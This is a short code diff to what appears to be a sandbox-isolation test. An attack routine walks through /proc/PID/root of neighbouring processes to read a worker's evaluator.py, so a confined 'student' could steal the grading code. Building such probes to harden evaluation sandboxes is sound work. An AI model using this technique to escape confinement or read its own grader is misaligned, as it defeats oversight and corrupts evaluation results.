@@ -4,24 +4,13 @@ Means: /proc/PID/root is the root folder as the worker sees it. A student shut i
        kept from the name /var/task, walks through this door into the worker's.
 """
 
-import os
-
-from attack import DONE, attempting, denied, loot
-
-
-def neighbours(first):
-    """The worker, then every process in /proc but this one."""
-    try:
-        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
-    except OSError:
-        seen = []
-    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
+from attack import DONE, attempting, denied, loot, neighbours
 
 
 def run(brief):
     why = "nobody else in sight"
     attempting()
-    for pid in neighbours(brief.worker):
+    for pid in neighbours(brief):
         try:
             with open(f"/proc/{pid}/root/var/task/evaluator.py", "rb") as file:
                 loot(file.read(65536))
